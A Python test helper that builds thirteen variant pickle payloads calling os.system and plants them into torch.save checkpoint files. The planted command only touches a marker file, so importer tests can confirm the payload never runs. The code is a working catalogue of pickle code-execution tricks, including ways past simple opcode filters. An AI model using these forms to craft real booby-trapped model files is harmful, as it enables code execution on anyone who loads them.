"""Checkpoints that would run a command if anything in them were built: for the tests of every importer.

    torch.save({"state_dict": weights, "args": MARK}, path)
    plant(path, form, touched)  # for each form of FORMS
    ...read it: the weights are those, and `touched` does not exist

`test_hostile.py` shows that each form does run when the file is loaded carelessly.
"""

import copyreg
import io
import zipfile
from pathlib import Path

MARK = "the payload goes here"  # saved wherever the payload is to stand: a value, an item of a list, a whole file
_EXTENSION = 0x7E57


def _text(value: str) -> bytes:
    encoded = value.encode()
    return b"X" + len(encoded).to_bytes(4, "little") + encoded


def _object(**attributes: bytes) -> bytes:
    """An argparse.Namespace on which these attributes are set to os.system."""
    items = b"".join(_text(name) + value for name, value in attributes.items())
    return b"cargparse\nNamespace\n)\x81}(" + items + b"ub"


def _forms(command: str) -> dict[str, bytes]:
    text, system = _text(command), b"cos\nsystem\n"
    stack_global = b"\x8c\x02os\x8c\x06system\x93"
    lazy = b"cbuiltins\nmap\n" + system + b"(" + text + b"l\x86"  # map(os.system, [command]), the arguments at least
    return {
        "reduce": system + text + b"\x85R",
        "stack_global": stack_global + text + b"\x85R",
        "inst": b"(" + text + b"ios\nsystem\n",
        "obj": b"(" + system + text + b"o",
        "newobj": b"cbuiltins\ntuple\n" + lazy + b"\x81\x85\x81",
        "newobj_ex": b"cbuiltins\ntuple\n" + lazy + b"}\x92\x85}\x92",
        "build": _object(__setstate__=system) + text + b"b",
        "append": _object(append=system) + text + b"a",
        "appends": _object(append=system) + b"(" + text + b"e",
        "extension": b"\x83" + _EXTENSION.to_bytes(2, "little") + text + b"\x85R",
        "persistent": b"(" + _text("storage") + stack_global + text + b"\x85R" + _text("0") + _text("cpu") + b"K\x01tQ",
        "key": b"}" + system + text + b"\x85RNs",
        "getattr": b"cbuiltins\ngetattr\ncos\nsystem\n" + _text("__call__") + b"\x86R" + text + b"\x85R",
    }


FORMS = tuple(_forms(""))


def plant(path: Path, form: str, touched: Path) -> None:
    """Put a payload where `MARK` was saved in a file of `torch.save`; run, it makes the file `touched`."""
    if form == "extension" and ("os", "system") not in copyreg._extension_registry:  # pyright: ignore
        copyreg.add_extension("os", "system", _EXTENSION)
    payload, mark = _forms(f"touch {touched}")[form], _text(MARK)
    content = path.read_bytes()
    if not content.startswith(b"PK"):
        assert content.count(mark) == 1
        path.write_bytes(content.replace(mark, payload))
        return
    planted, found = io.BytesIO(), 0
    with zipfile.ZipFile(path) as good, zipfile.ZipFile(planted, "w") as bad:
        for entry in good.infolist():
            part = good.read(entry)
            if entry.filename.endswith("/data.pkl"):
                found += part.count(mark)
                part = part.replace(mark, payload)
            bad.writestr(zipfile.ZipInfo(entry.filename), part)
    assert found == 1, f"{MARK!r} was saved {found} times"
    path.write_bytes(planted.getvalue())
